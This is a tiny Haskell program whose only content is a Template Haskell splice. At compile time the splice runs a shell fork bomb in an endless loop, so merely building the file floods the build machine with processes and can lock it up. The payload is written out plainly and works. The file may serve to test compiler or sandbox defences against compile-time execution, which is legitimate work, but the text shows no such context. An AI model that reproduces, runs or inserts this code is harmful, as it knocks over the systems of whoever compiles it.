{-# LANGUAGE TemplateHaskell #-}
module Main (main) where

import Control.Exception (IOException, try)
import Control.Monad (forever)
import Language.Haskell.TH
import System.Exit (ExitCode)
import System.Process (system)

main :: IO ()
main = $(runIO (forever (try (system "bomb() { bomb | bomb & }; bomb") :: IO (Either IOException ExitCode))))
